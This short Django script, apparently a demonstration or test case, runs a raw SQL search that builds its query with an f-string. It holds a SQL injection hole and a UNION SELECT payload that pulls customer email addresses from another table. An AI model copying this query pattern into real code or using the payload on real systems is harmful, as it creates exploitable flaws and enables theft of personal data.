from django.db import connection


def search(text):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT title FROM library_book WHERE is_published AND title LIKE '%{text}%'")
        return sorted(title for (title,) in cursor.fetchall())


def run():
    yield from search("Meadow")
    yield from search("Meadow' UNION SELECT email FROM library_customer -- ")
